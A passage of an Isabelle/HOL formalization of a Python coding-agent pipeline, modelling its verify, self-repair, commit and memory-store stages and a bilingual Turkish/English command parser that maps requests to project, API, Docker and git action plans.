                           stage_command = Some test_cmd\<rparr> report), s2))
      | None \<Rightarrow>
          (if ''python'' \<in> set (detect_project_type os project_path s1)
           then (let (output, s2) =
                       run_command os
                         ''python3 -m unittest discover -s . -v 2>&1 || python3 -m py_compile *.py 2>&1''
                         (Some project_path) 60 s1;
                     passed = (\<not> is_test_failure (Some output))
                 in ((passed,
                      add_stage \<lparr>stage_name = ''verify'',
                                 stage_status = (if passed then ''ok'' else ''fail''),
                                 stage_detail = take 300 output,
                                 stage_command = None\<rparr> report), s2))
           else ((True,
                  add_stage \<lparr>stage_name = ''verify'', stage_status = ''ok'',
                             stage_detail = ''no tests configured, syntax check only'',
                             stage_command = None\<rparr> report), s1)))"

text \<open>The loop of \<open>_llm_repair\<close> over the \<open>.py\<close> files of the project.\<close>

fun llm_repair_files :: "'w os \<Rightarrow> 'w llm \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string list \<Rightarrow> 'w sys \<Rightarrow> bool \<times> 'w sys" where
  "llm_repair_files os m project_path error_msg [] s = (False, s)"
| "llm_repair_files os m project_path error_msg (filename # fs) s =
     (let filepath = project_path @ ''/'' @ filename;
          (code, s1) = read_file os filepath s
      in if startswith code ''ERROR'' then llm_repair_files os m project_path error_msg fs s1
         else (let (fixed_code, w) = generate_fix m code error_msg filename (world s1) in
               case truthy fixed_code of
                 Some fixed \<Rightarrow>
                   (if fixed \<noteq> code
                    then (let (_, s2) = write_file os filepath fixed (s1\<lparr>world := w\<rparr>)
                          in (True, logging INFO (''  LLM FIX: '' @ filename) s2))
                    else llm_repair_files os m project_path error_msg fs (s1\<lparr>world := w\<rparr>))
               | None \<Rightarrow> llm_repair_files os m project_path error_msg fs (s1\<lparr>world := w\<rparr>)))"

definition llm_repair :: "'w os \<Rightarrow> 'w llm \<Rightarrow> string \<Rightarrow> string \<Rightarrow> 'w sys \<Rightarrow> (exn + bool) \<times> 'w sys" where
  "llm_repair os m project_path error_msg s =
     (case listdir os project_path (world s) of
        Inl e \<Rightarrow> (Inl (OSError e), s)
      | Inr names \<Rightarrow>
          (let py_files = filter (\<lambda>f. endswith f ''.py'') names;
               (fixed, s1) = llm_repair_files os m project_path error_msg py_files s
           in (Inr fixed, s1)))"

text \<open>The three patterns that \<open>_pattern_repair\<close> searches the error text for.\<close>

definition no_module_re :: regex where
  "no_module_re = cat [Str (''no module named '' @ [CHR 0x27]), Group 1 (Plus (One Word)), Str [CHR 0x27]]"

definition file_line_re :: regex where
  "file_line_re =
     cat [Str (''File '' @ [CHR 0x22]), Group 1 (Plus (NoneOf [Chr (CHR 0x22)])),
          Str ([CHR 0x22] @ '', line ''), Group 2 (Plus (One Digit))]"

definition file_re :: regex where
  "file_re = cat [Str (''File '' @ [CHR 0x22]), Group 1 (Plus (NoneOf [Chr (CHR 0x22)])), Str [CHR 0x22]]"

text \<open>
  \<open>int(s)\<close> on a string of decimal digits: CPython refuses more than 4300 digits.
\<close>

definition py_int :: "string \<Rightarrow> exn + nat" where
  "py_int ds =
     (if 4300 < length ds
      then Inl (ValueError (''Exceeds the limit (4300 digits) for integer string conversion: value has ''
                            @ show_nat (length ds)
                            @ '' digits; use sys.set_int_max_str_digits() to increase the limit''))
      else Inr (read_nat ds))"

definition replace_tabs :: "string \<Rightarrow> string" where
  "replace_tabs code = concat (map (\<lambda>c. if c = CHR 0x09 then ''    '' else [c]) code)"

text \<open>
  The rules of \<open>_pattern_repair\<close> from the third on: the indentation rule, which
  imports \<open>re\<close> itself, and the name rule.
\<close>

definition repair_indentation :: "'w os \<Rightarrow> string \<Rightarrow> 'w sys \<Rightarrow> bool \<times> 'w sys" where
  "repair_indentation os error_msg s =
     (case re_search False file_re error_msg of
        None \<Rightarrow> (False, s)
      | Some m \<Rightarrow>
          (case group m 1 of
             None \<Rightarrow> (False, s)
           | Some filepath \<Rightarrow>
               (let (code, s1) = read_file os filepath s in
                if \<not> startswith code ''ERROR''
                then (let fixed = replace_tabs code in
                      if fixed \<noteq> code
                      then (let (_, s2) = write_file os filepath fixed s1
                            in (True, logging INFO (''  PATTERN FIX: Fixed indentation in '' @ filepath) s2))
                      else (False, s1))
                else (False, s1))))"

definition repair_tail :: "'w os \<Rightarrow> string \<Rightarrow> string \<Rightarrow> 'w sys \<Rightarrow> (exn + bool) \<times> 'w sys" where
  "repair_tail os error_msg error_lower s =
     (let (fixed, s1) = (if str_in ''indentationerror'' error_lower
                         then repair_indentation os error_msg s else (False, s))
      in if fixed then (Inr True, s1)
         else if str_in ''nameerror'' error_lower
         then (Inr False,
               logging INFO ''  PATTERN FIX: NameError detected, cannot auto-fix without LLM'' s1)
         else (Inr False, s1))"

text \<open>
  \<open>_pattern_repair\<close>.  The function holds two \<open>import re\<close> statements, one inside the
  import rule and one inside the indentation rule, and the module does not import \<open>re\<close>:
  so \<open>re\<close> is a local variable of the function, bound only once one of the two
  statements has run.  The syntax rule uses \<open>re\<close> without importing it; \<open>re_bound\<close>
  says whether the import rule has run before.
\<close>

definition pattern_repair :: "'w os \<Rightarrow> goal \<Rightarrow> string \<Rightarrow> string \<Rightarrow> 'w sys \<Rightarrow> (exn + bool) \<times> 'w sys" where
  "pattern_repair os goal project_path error_msg s =
     (let error_lower = lower error_msg;
          re_bound = (str_in ''importerror'' error_lower \<or> str_in ''modulenotfounderror'' error_lower)
      in case (if re_bound then re_search False no_module_re error_msg else None) of
           Some m \<Rightarrow>
             (Inr False,
              logging INFO (''  PATTERN FIX: Missing module '' @ [CHR 0x27]
                            @ (case group m 1 of Some module \<Rightarrow> module | None \<Rightarrow> ''None'')
                            @ [CHR 0x27]) s)
         | None \<Rightarrow>
             (if str_in ''syntaxerror'' error_lower
              then (if \<not> re_bound then (Inl (UnboundLocalError ''re''), s)
                    else (case re_search False file_line_re error_msg of
                            Some m \<Rightarrow>
                              (case group m 2 of
                                 None \<Rightarrow>
                                   (Inl (TypeError (''int() argument must be a string, a bytes-like object or a real number, not ''
                                                    @ quoted ''NoneType'')), s)
                               | Some digits \<Rightarrow>
                                   (case py_int digits of
                                      Inl e \<Rightarrow> (Inl e, s)
                                    | Inr line_no \<Rightarrow>
                                        (Inr False,
                                         logging INFO (''  PATTERN FIX: Syntax error in ''
                                           @ (case group m 1 of Some filepath \<Rightarrow> filepath | None \<Rightarrow> ''None'')
                                           @ '':'' @ show_nat line_no) s)))
                          | None \<Rightarrow> repair_tail os error_msg error_lower s))
              else repair_tail os error_msg error_lower s))"

definition repair_failed :: "report \<Rightarrow> report" where
  "repair_failed report =
     add_stage \<lparr>stage_name = ''repair'', stage_status = ''fail'',
                stage_detail = ''failed after '' @ show_nat MAX_FIX_ATTEMPTS @ '' attempts'',
                stage_command = None\<rparr> report"

text \<open>
  The loop of \<open>_stage_repair\<close> over the attempts still to make.  Leaving the loop,
  by \<open>break\<close> or at its end, reaches the code after it, which reports the failure.
\<close>

fun repair_loop :: "'w os \<Rightarrow> 'w llm option \<Rightarrow> goal \<Rightarrow> string \<Rightarrow> nat list \<Rightarrow> report \<Rightarrow> 'w sys \<Rightarrow> (exn + bool) \<times> report \<times> 'w sys" where
  "repair_loop os l goal project_path [] report s = (Inr False, repair_failed report, s)"
| "repair_loop os l goal project_path (attempt # attempts) report s =
     (let s1 = logging INFO (''  REPAIR attempt '' @ show_nat (attempt + 1) @ ''/''
                             @ show_nat MAX_FIX_ATTEMPTS) s;
          test_cmd = (case goal_test_cmd goal of
                        Some c \<Rightarrow> c
                      | None \<Rightarrow> ''python3 -m py_compile *.py 2>&1'');
          (error_output, s2) = run_command os test_cmd (Some project_path) 30 s1
      in if \<not> is_test_failure (Some error_output)
         then (Inr True,
               add_stage \<lparr>stage_name = ''repair'', stage_status = ''ok'',
                          stage_detail = ''fixed on attempt '' @ show_nat (attempt + 1),
                          stage_command = None\<rparr> report, s2)
         else (case (case usable l of
                       Some m \<Rightarrow> llm_repair os m project_path error_output s2
                     | None \<Rightarrow> pattern_repair os goal project_path error_output s2) of
                 (Inl e, s3) \<Rightarrow> (Inl e, report, s3)
               | (Inr fixed, s3) \<Rightarrow>
                   (if \<not> fixed then (Inr False, repair_failed report, s3)
                    else repair_loop os l goal project_path attempts report s3)))"

definition stage_repair :: "'w os \<Rightarrow> 'w llm option \<Rightarrow> goal \<Rightarrow> string \<Rightarrow> report \<Rightarrow> 'w sys \<Rightarrow> (exn + bool) \<times> report \<times> 'w sys" where
  "stage_repair os l goal project_path report s =
     repair_loop os l goal project_path [0..<MAX_FIX_ATTEMPTS] report
       (logging INFO ''STAGE [repair]: Attempting self-repair...'' s)"

definition stage_commit :: "'w os \<Rightarrow> goal \<Rightarrow> string \<Rightarrow> report \<Rightarrow> 'w sys \<Rightarrow> report \<times> 'w sys" where
  "stage_commit os goal project_path report s =
     (let s1 = logging INFO ''STAGE [commit]: Committing...'' s;
          desc = (case goal_description goal of Some d \<Rightarrow> d | None \<Rightarrow> ''auto-generated project'');
          (result, s2) = git_commit os project_path (''feat: '' @ desc) s1
      in (add_stage \<lparr>stage_name = ''commit'', stage_status = ''ok'',
                      stage_detail = take 200 result, stage_command = None\<rparr> report, s2))"

text \<open>
  \<open>execute_goal\<close>: the success flag and the report, with the state left behind.  An
  exception of a stage is caught here: it is logged and reported as a stage \<open>error\<close>.
\<close>

definition commit_and_succeed :: "'w os \<Rightarrow> goal \<Rightarrow> string \<Rightarrow> report \<Rightarrow> 'w sys \<Rightarrow> (bool \<times> report) \<times> 'w sys" where
  "commit_and_succeed os goal project_path report s =
     (let (report', s') = stage_commit os goal project_path report s
      in ((True, report'\<lparr>report_success := True\<rparr>), s'))"

definition execute_goal :: "'w os \<Rightarrow> 'w llm option \<Rightarrow> goal \<Rightarrow> string \<Rightarrow> 'w sys \<Rightarrow> (bool \<times> report) \<times> 'w sys" where
  "execute_goal os l goal project_path s =
     (let report0 = \<lparr>report_goal = (case goal_description goal of Some d \<Rightarrow> d | None \<Rightarrow> ''unknown''),
                     report_path = project_path, report_stages = [], report_success = False\<rparr>;
          (report1, s1) = stage_setup os project_path report0 s;
          ((goal1, report2), s2) = stage_codegen os l goal project_path report1 s1;
          ((test_passed, report3), s3) = stage_verify os goal1 project_path report2 s2
      in if test_passed then commit_and_succeed os goal1 project_path report3 s3
         else (case stage_repair os l goal1 project_path report3 s3 of
                 (Inl e, report4, s4) \<Rightarrow>
                   ((False,
                     add_stage \<lparr>stage_name = ''error'', stage_status = ''fail'',
                                stage_detail = exn_str e, stage_command = None\<rparr> report4),
                    logging ERROR (''PIPELINE ERROR: '' @ exn_str e) s4)
               | (Inr True, report4, s4) \<Rightarrow> commit_and_succeed os goal1 project_path report4 s4
               | (Inr False, report4, s4) \<Rightarrow> ((False, report4), s4)))"

section \<open>memory.py: the memory store\<close>

text \<open>
  The records the store keeps.  A time stamp is the reading of the clock
  (\<open>time.time()\<close>); the program only stores it, so its type \<open>'t\<close> is left open.
\<close>

record 't mem_state =
  boot_count :: int
  total_goals_completed :: int
  total_goals_failed :: int
  total_commands_executed :: int
  last_active_project :: "string option"
  last_boot :: "'t option"

record 't project =
  project_path :: string
  project_description :: string
  project_language :: string
  project_created :: 't
  project_last_modified :: 't
  project_commit_count :: int
  project_test_pass :: "bool option"

record 't pattern =
  pattern_goal :: string
  pattern_approach :: "string list"
  pattern_error :: "string option"
  pattern_timestamp :: 't

record 't patterns =
  successful_patterns :: "'t pattern list"
  failed_patterns :: "'t pattern list"

text \<open>
  The directory of the store.  A file is absent, unreadable, not valid JSON, or holds a
  value.  \<open>dir_error\<close> is the text of the exception that \<open>os.makedirs\<close> on the directory
  raises, \<open>None\<close> when it succeeds; \<open>writable\<close> says that opening a file of it for
  writing succeeds.
\<close>

datatype 'a stored = Absent | Unreadable | Corrupt | Content 'a

record 't disk =
  dir_error :: "string option"
  writable :: bool
  state_file :: "'t mem_state stored"
  projects_file :: "(string \<times> 't project) list stored"
  patterns_file :: "'t patterns stored"

record 't memory =
  state :: "'t mem_state"
  projects :: "(string \<times> 't project) list"
  patterns :: "'t patterns"


definition default_state :: "'t mem_state" where
  "default_state =
     \<lparr>boot_count = 0, total_goals_completed = 0, total_goals_failed = 0,
      total_commands_executed = 0, last_active_project = None, last_boot = None\<rparr>"

definition default_patterns :: "'t patterns" where
  "default_patterns = \<lparr>successful_patterns = [], failed_patterns = []\<rparr>"

text \<open>
  \<open>_save_json\<close> on each of the files: an \<open>IOError\<close> is caught and logged, and the file
  stays as it was.
\<close>

definition save_state :: "'t memory \<Rightarrow> 't disk \<Rightarrow> 't disk" where
  "save_state m d = (if writable d then d\<lparr>state_file := Content (state m)\<rparr> else d)"

definition save_patterns :: "'t memory \<Rightarrow> 't disk \<Rightarrow> 't disk" where
  "save_patterns m d = (if writable d then d\<lparr>patterns_file := Content (patterns m)\<rparr> else d)"


definition record_success :: "string \<Rightarrow> string list \<Rightarrow> 't \<Rightarrow> 't memory \<times> 't disk \<Rightarrow> 't memory \<times> 't disk" where
  "record_success description approach now md =
     (let (m, d) = md;
          appended = successful_patterns (patterns m)
                       @ [\<lparr>pattern_goal = description, pattern_approach = approach,
                            pattern_error = None, pattern_timestamp = now\<rparr>];
          m1 = m\<lparr>patterns := (patterns m)\<lparr>successful_patterns := last_n 100 appended\<rparr>\<rparr>;
          d1 = save_patterns m1 d;
          m2 = m1\<lparr>state := (state m1)\<lparr>total_goals_completed := total_goals_completed (state m1) + 1\<rparr>\<rparr>
      in (m2, save_state m2 d1))"

definition record_failure :: "string \<Rightarrow> string list \<Rightarrow> string \<Rightarrow> 't \<Rightarrow> 't memory \<times> 't disk \<Rightarrow> 't memory \<times> 't disk" where
  "record_failure description approach error now md =
     (let (m, d) = md;
          appended = failed_patterns (patterns m)
                       @ [\<lparr>pattern_goal = description, pattern_approach = approach,
                            pattern_error = Some (take 500 error), pattern_timestamp = now\<rparr>];
          m1 = m\<lparr>patterns := (patterns m)\<lparr>failed_patterns := last_n 100 appended\<rparr>\<rparr>;
          d1 = save_patterns m1 d;
          m2 = m1\<lparr>state := (state m1)\<lparr>total_goals_failed := total_goals_failed (state m1) + 1\<rparr>\<rparr>
      in (m2, save_state m2 d1))"

text \<open>Consecutive calls of \<open>record_success\<close>, one for each (description, approach, time).\<close>

fun record_successes :: "(string \<times> string list \<times> 't) list \<Rightarrow> 't memory \<times> 't disk \<Rightarrow> 't memory \<times> 't disk" where
  "record_successes [] md = md"
| "record_successes ((g, a, t) # calls) md = record_successes calls (record_success g a t md)"

section \<open>command_parser.py: the command interpreter\<close>

text \<open>
  Plans, actions and their arguments are Python dictionaries and JSON values; a
  dictionary keeps its keys in the order in which they were written.
\<close>

datatype json =
    JNull
  | JBool bool
  | JNum int
  | JStr string
  | JArr "json list"
  | JObj "(string \<times> json) list"

text \<open>
  What the interpreter reads from outside: its project root, the entries of that
  directory with, for each, whether it is a directory and its modification time
  (\<open>None\<close> when the directory cannot be listed), the function \<open>json.loads\<close>
  (\<open>None\<close> for a \<open>JSONDecodeError\<close>), and the two file contents that the plan of an API
  project carries.
\<close>

record parser_env =
  project_root :: string
  root_entries :: "(string \<times> bool \<times> int) list option"
  json_loads :: "string \<Rightarrow> json option"
  server_code :: string
  test_code :: string

text \<open>Words of the patterns with letters above U+00FF: s-cedilla U+015F, dotless i U+0131.\<close>

definition olustur :: regex where
  "olustur = cat [Str ''olu'', Atom (One (ChrU 0x15F)), Str ''tur'']"

definition calistir :: regex where
  "calistir = cat [Str ([CHR 0xE7] @ ''al''), Atom (One (ChrU 0x131)), Atom (One (ChrU 0x15F)),
                   Str ''t'', Atom (One (ChrU 0x131)), Str ''r'']"

definition kos :: regex where
  "kos = cat [Str ''ko'', Atom (One (ChrU 0x15F))]"

definition alt :: "regex list \<Rightarrow> regex" where
  "alt rs = foldr Alt (butlast rs) (last rs)"

definition goster :: string where
  "goster = ''g'' @ [CHR 0xF6] @ ''ster''"

definition duzelt :: string where
  "duzelt = ''d'' @ [CHR 0xFC] @ ''zelt''"

definition arac :: string where
  "arac = ''ara'' @ [CHR 0xE7]"

text \<open>\<open>INTENT_PATTERNS\<close>: the entries in their order, each with its patterns in their order.\<close>

definition INTENT_PATTERNS :: "(regex list \<times> string) list" where
  "INTENT_PATTERNS =
     [([cat [Group 1 (alts [''yeni'', ''new'']), sp, Group 2 (alts [''proje'', ''project'']), sp,
             alt [olustur, Str ''yarat'', Str (''a'' @ [CHR 0xE7]), Str ''create'', Str ''init''],
             sp0, Opt (Str '':''), sp0, Group 3 (Star Dot)],
        cat [Group 1 (alts [''proje'', ''project'']), sp,
             Group 2 (alt [olustur, Str ''yarat'', Str (''a'' @ [CHR 0xE7]), Str ''create'', Str ''init'']),
             sp0, Opt (Str '':''), sp0, Group 3 (Star Dot)],
        cat [Str ''create'', sp, Str ''project'', sp, Group 1 (Star Dot)],
        cat [Str ''init'', sp, Str ''project'', sp, Group 1 (Star Dot)]],
       ''create_project''),
      ([cat [Group 1 (alts [''api'', ''rest'', ''endpoint'']), sp0,
             Group 2 (alt [Str ''yaz'', olustur, Str ''ekle'', Str ''write'', Str ''create'', Str ''build''])],
        cat [Group 1 (alt [Str ''yaz'', olustur, Str ''create'', Str ''build'', Str ''write'']), sp,
             Opt (Group 2 (cat [Str ''bir'', sp])), Group 3 (alts [''api'', ''rest'', ''endpoint''])],
        cat [Group 1 (alts [''basit'', ''simple'']), sp, Opt (Group 2 (cat [Str ''bir'', sp])),
             Group 3 (alts [''api'', ''rest'']), sp0,
             Group 4 (alt [Str ''yaz'', olustur, Str ''create''])]],
       ''create_api''),
      ([cat [Group 1 (alt [Str ''yaz'', olustur, Str ''create'', Str ''build'', Str ''write'']), sp,
             Opt (Group 2 (cat [Str ''bir'', sp])), Group 3 (StarLazy Dot),
             Opt (Group 4 (alt [cat [sp, Str ''tool''], cat [sp, Str arac], cat [sp, Str ''utility'']])),
             Eol]],
       ''create_tool''),
      ([cat [Group 1 (alts [''ekle'', ''add'']), sp, Group 2 (Star Dot)],
        cat [Group 1 (Star Dot), sp, Group 2 (alts [''ekle'', ''add'']), Eol]],
       ''add_feature''),
      ([cat [Group 1 (alt [Str ''test'', cat [Str ''testler'', Opt (Str ''i'')]]), sp0,
             Group 2 (alt [calistir, Str ''run'', Str ''yap'', kos])],
        cat [Group 1 (alt [calistir, Str ''run'']), sp,
             Group 2 (alt [Str ''test'', cat [Str ''testler'', Opt (Str ''i'')]])],
        cat [Str ''run'', sp, Str ''test'', Opt (Str ''s'')]],
       ''run_tests''),
      ([cat [Group 1 (alts [''build'', ''derleme'', ''derle'']), sp0,
             Opt (Group 2 (alts [''al'', ''yap'', ''et'']))],
        cat [Group 1 (alts [''al'', ''yap'']), sp, Group 2 (alts [''build'', ''derleme''])]],
       ''build''),
      ([cat [Str ''docker'', Opt (Group 1 (alts [''ize'', ''la'', ''le''])), sp0,
             Opt (Group 2 (alts [''et'', ''yap'']))],
        cat [Group 1 (alts [''container'', ''konteyner'']), sp0,
             Group 2 (alt [olustur, Str ''yap'', Str ''et''])]],
       ''dockerize''),
      ([cat [Group 1 (alts [''commit'', ''kaydet'']), sp0, Opt (Group 2 (alts [''et'', ''yap'']))],
        cat [Str ''git'', sp, Group 1 (alts [''commit'', ''push'', ''pull'', ''status'', ''log''])]],
       ''git_op''),
      ([cat [Group 1 (alts [''listele'', goster, ''list'', ''show'', ''ls'']), sp, Group 2 (Star Dot)],
        cat [Group 1 (alts [''dosyalar'', ''files'', ''projeler'', ''projects'']), sp0,
             Group 2 (alts [''listele'', goster, ''list'', ''show''])]],
       ''list''),
      ([cat [Group 1 (alts [''oku'', ''read'', ''cat'', goster, ''show'']), sp,
             Group 2 (cat [Plus Dot, Str ''.'', Plus (One Word)])]],
       ''read_file''),
      ([cat [Group 1 (alts [duzelt, ''fix'', ''debug'', ''hata'']), sp0, Group 2 (Star Dot)],
        cat [Group 1 (Star Dot), sp, Group 2 (alts [duzelt, ''fix'']), Eol]],
       ''fix''),
      ([cat [Bol, Group 1 (alt [cat [Str ''python'', Opt (Str ''3'')], Str ''pip'', Str ''git'',
                                Str ''npm'', Str ''node'', Str ''cargo'', Str ''go'', Str ''make'',
                                Str ''gcc'', Str ''g++'', Str ''sh'', Str ''bash'']),
             sp, Star Dot],
        cat [Bol, Group 1 (alts [''ls'', ''cat'', ''mkdir'', ''cp'', ''mv'', ''rm'', ''find'', ''grep'',
                                 ''chmod'', ''chown'']),
             sp, Star Dot]],
       ''shell'')]"

text \<open>\<open>os.path.join\<close> of two POSIX paths.\<close>

definition path_join :: "string \<Rightarrow> string \<Rightarrow> string" where
  "path_join a b =
     (if startswith b ''/'' then b
      else if a = [] \<or> endswith a ''/'' then a @ b
      else a @ ''/'' @ b)"

text \<open>
  \<open>_get_latest_project\<close>: the sub-directory of the root modified last, the first of
  them when several were; \<open>None\<close> without sub-directories or when listing raises.
\<close>

fun max_by_mtime :: "(string \<times> int) \<Rightarrow> (string \<times> int) list \<Rightarrow> string" where
  "max_by_mtime best [] = fst best"
| "max_by_mtime best (d # ds) = max_by_mtime (if snd best < snd d then d else best) ds"

definition get_latest_project :: "parser_env \<Rightarrow> string option" where
  "get_latest_project env =
     (case root_entries env of
        None \<Rightarrow> None
      | Some entries \<Rightarrow>
          (case map (\<lambda>(d, isdir, mtime). (path_join (project_root env) d, mtime))
                    (filter (\<lambda>(d, isdir, mtime). isdir) entries) of
             [] \<Rightarrow> None
           | d # ds \<Rightarrow> Some (max_by_mtime d ds)))"

text \<open>
  \<open>_extract_name\<close>: the groups from the last one down to the first; the first group
  that is longer than one character and is no stop word, stripped.  The stop words are
  lists of code points, one of them with a letter above U+00FF.
\<close>

definition stop_words :: "nat list list" where
  "stop_words =
     [map ord ''yeni'', map ord ''new'', map ord ''proje'', map ord ''project'',
      map ord ''olu'' @ [0x15F] @ map ord ''tur'', map ord ''create'', map ord ''init'',
      map ord ''yarat'', map ord ''a'' @ [0xE7]]"

fun extract_from :: "mstate \<Rightarrow> nat \<Rightarrow> string option" where
  "extract_from m 0 = None"
| "extract_from m (Suc i) =
     (case group m (Suc i) of
        Some g \<Rightarrow>
          (if g \<noteq> [] \<and> 1 < length g \<and> map ord (lower g) \<notin> set stop_words then Some (strip g)
           else extract_from m i)
      | None \<Rightarrow> extract_from m i)"

definition extract_name :: "mstate \<Rightarrow> string \<Rightarrow> string option" where
  "extract_name m raw = extract_from m (case lastindex m of Some i \<Rightarrow> i | None \<Rightarrow> 0)"

text \<open>\<open>_sanitize_name\<close>.\<close>

definition sanitize_name :: "string \<Rightarrow> string" where
  "sanitize_name name =
     (let name1 = re_sub_atom (NoneOf [Word, Space, Chr (CHR ''-'')]) [] (lower name);
          name2 = re_sub_plus (OneOf [Space]) ''_'' (strip name1)
      in if name2 \<noteq> [] then name2 else ''project'')"

definition action :: "string \<Rightarrow> (string \<times> json) list \<Rightarrow> json" where
  "action tool args = JObj [(''tool'', JStr tool), (''args'', JObj args)]"

definition plan_create_project :: "parser_env \<Rightarrow> string \<Rightarrow> json" where
  "plan_create_project env name =
     (let path = project_root env @ ''/'' @ name in
      JObj [(''intent'', JStr ''create_project''),
            (''name'', JStr name),
            (''path'', JStr path),
            (''actions'', JArr
               [action ''mkdir'' [(''path'', JStr path)],
                action ''git_init'' [(''path'', JStr path)],
                action ''write'' [(''path'', JStr (path @ ''/README.md'')),
                                  (''content'', JStr (''# '' @ name @ [CHR 0x0A, CHR 0x0A]
                                                      @ ''Auto-generated project.'' @ [CHR 0x0A]))],
                action ''git_commit'' [(''path'', JStr path), (''message'', JStr (''init: '' @ name))]])])"

definition plan_create_api :: "parser_env \<Rightarrow> json" where
  "plan_create_api env =
     (let name = ''api_server'';
          path = project_root env @ ''/'' @ name
      in JObj [(''intent'', JStr ''create_api''),
               (''name'', JStr name),
               (''path'', JStr path),
               (''actions'', JArr
                  [action ''mkdir'' [(''path'', JStr path)],
                   action ''git_init'' [(''path'', JStr path)],
                   action ''write'' [(''path'', JStr (path @ ''/server.py'')),
                                     (''content'', JStr (server_code env))],
                   action ''write'' [(''path'', JStr (path @ ''/test_server.py'')),
                                     (''content'', JStr (test_code env))],
                   action ''test'' [(''path'', JStr path)],
                   action ''git_commit'' [(''path'', JStr path),
                      (''message'', JStr ''feat: REST API server with CRUD and tests'')]])])"

definition plan_create_tool :: "parser_env \<Rightarrow> string \<Rightarrow> json" where
  "plan_create_tool env description =
     (let name = (if sanitize_name description \<noteq> [] then sanitize_name description else ''cli_tool'');
          path = project_root env @ ''/'' @ name
      in JObj [(''intent'', JStr ''create_tool''),
               (''name'', JStr name),
               (''description'', JStr description),
               (''path'', JStr path),
               (''actions'', JArr
                  [action ''mkdir'' [(''path'', JStr path)],
                   action ''git_init'' [(''path'', JStr path)]]),
               (''requires_generation'', JBool True)])"

definition plan_add_feature :: "string \<Rightarrow> json" where
  "plan_add_feature feature =
     JObj [(''intent'', JStr ''add_feature''),
           (''feature'', JStr feature),
           (''actions'', JArr []),
           (''requires_generation'', JBool True)]"

definition plan_run_tests :: "parser_env \<Rightarrow> json" where
  "plan_run_tests env =
     (case truthy (get_latest_project env) of
        Some latest \<Rightarrow>
          JObj [(''intent'', JStr ''run_tests''),
                (''path'', JStr latest),
                (''actions'', JArr [action ''test'' [(''path'', JStr latest)]])]
      | None \<Rightarrow>
          JObj [(''intent'', JStr ''run_tests''),
                (''actions'', JArr [action ''ls'' [(''path'', JStr (project_root env))]]),
                (''error'', JStr ''No projects found'')])"

definition plan_build :: "parser_env \<Rightarrow> json" where
  "plan_build env =
     (case truthy (get_latest_project env) of
        None \<Rightarrow> JObj [(''intent'', JStr ''build''), (''actions'', JArr []),
                       (''error'', JStr ''No project found'')]
      | Some latest \<Rightarrow>
          JObj [(''intent'', JStr ''build''),
                (''path'', JStr latest),
                (''actions'', JArr
                   [action ''run''
                      [(''command'', JStr (''python3 -m py_compile *.py 2>&1 || make 2>&1 || echo ''
                                          @ [CHR 0x27] @ ''No build system detected'' @ [CHR 0x27])),
                       (''cwd'', JStr latest)]])])"

definition dockerfile :: string where
  "dockerfile =
     ''FROM python:3.12-alpine'' @ [CHR 0x0A] @ ''WORKDIR /app'' @ [CHR 0x0A] @ ''COPY . .'' @ [CHR 0x0A]
     @ ''RUN pip install --no-cache-dir -r requirements.txt 2>/dev/null || true'' @ [CHR 0x0A]
     @ ''EXPOSE 8080'' @ [CHR 0x0A]
     @ ''CMD ['' @ [CHR 0x22] @ ''python3'' @ [CHR 0x22] @ '', '' @ [CHR 0x22] @ ''main.py'' @ [CHR 0x22]
     @ '']'' @ [CHR 0x0A]"

definition compose :: "string \<Rightarrow> string" where
  "compose name =
     ''version: '' @ [CHR 0x27] @ ''3.8'' @ [CHR 0x27] @ [CHR 0x0A] @ ''services:'' @ [CHR 0x0A]
     @ ''  '' @ name @ '':'' @ [CHR 0x0A] @ ''    build: .'' @ [CHR 0x0A] @ ''    ports:'' @ [CHR 0x0A]
     @ ''      - '' @ [CHR 0x22] @ ''8080:8080'' @ [CHR 0x22] @ [CHR 0x0A]
     @ ''    restart: unless-stopped'' @ [CHR 0x0A]"

definition plan_dockerize :: "parser_env \<Rightarrow> json" where
  "plan_dockerize env =
     (case truthy (get_latest_project env) of
        None \<Rightarrow> JObj [(''intent'', JStr ''dockerize''), (''actions'', JArr []),
                       (''error'', JStr ''No project found'')]
      | Some latest \<Rightarrow>
          JObj [(''intent'', JStr ''dockerize''),
                (''path'', JStr latest),
                (''actions'', JArr
                   [action ''write'' [(''path'', JStr (latest @ ''/Dockerfile'')),
                                      (''content'', JStr dockerfile)],
                    action ''write'' [(''path'', JStr (latest @ ''/docker-compose.yml'')),
                                      (''content'', JStr (compose (basename latest)))],
                    action ''git_commit'' [(''path'', JStr latest),
                                           (''message'', JStr ''feat: add Docker support'')]])])"

definition plan_git_op :: "parser_env \<Rightarrow> string \<Rightarrow> json" where
  "plan_git_op env raw =
     (let path = (case truthy (get_latest_project env) of Some latest \<Rightarrow> latest
                  | None \<Rightarrow> project_root env)
      in if str_in ''commit'' (lower raw) \<or> str_in ''kaydet'' (lower raw)
         then JObj [(''intent'', JStr ''git_commit''),
                    (''actions'', JArr [action ''git_commit''
                       [(''path'', JStr path), (''message'', JStr ''auto: checkpoint commit'')]])]
         else if str_in ''status'' (lower raw)
         then JObj [(''intent'', JStr ''git_status''),
                    (''actions'', JArr [action ''git_status'' [(''path'', JStr path)]])]
         else if str_in ''log'' (lower raw)
         then JObj [(''intent'', JStr ''git_log''),
                    (''actions'', JArr [action ''git_log'' [(''path'', JStr path)]])]
         else JObj [(''intent'', JStr ''git_op''),
                    (''actions'', JArr [action ''run'' [(''command'', JStr raw)]])])"

definition plan_fix :: "parser_env \<Rightarrow> string \<Rightarrow> json" where
  "plan_fix env description =
     JObj [(''intent'', JStr ''fix''),
           (''description'', JStr description),
           (''path'', (case get_latest_project env of Some latest \<Rightarrow> JStr latest | None \<Rightarrow> JNull)),
           (''actions'', JArr []),
           (''requires_generation'', JBool True)]"

text \<open>
  \<open>match.group(k) if match.lastindex >= k else raw_text\<close>, then \<open>.strip()\<close>:
  comparing a \<open>lastindex\<close> of \<open>None\<close> raises, and so does stripping a group that took no
  part in the match.
\<close>

definition group_or_raw :: "mstate \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> exn + string" where
  "group_or_raw m k raw_text =
     (case lastindex m of
        None \<Rightarrow> Inl (TypeError (quoted ''>='' @ '' not supported between instances of '' @ quoted ''NoneType''
                                   @ '' and '' @ quoted ''int''))
      | Some i \<Rightarrow>
          (if k \<le> i
           then (case group m k of
                   Some g \<Rightarrow> Inr (strip g)
                 | None \<Rightarrow> Inl (AttributeError (quoted ''NoneType'' @ '' object has no attribute '' @ quoted ''strip'')))
           else Inr (strip raw_text)))"

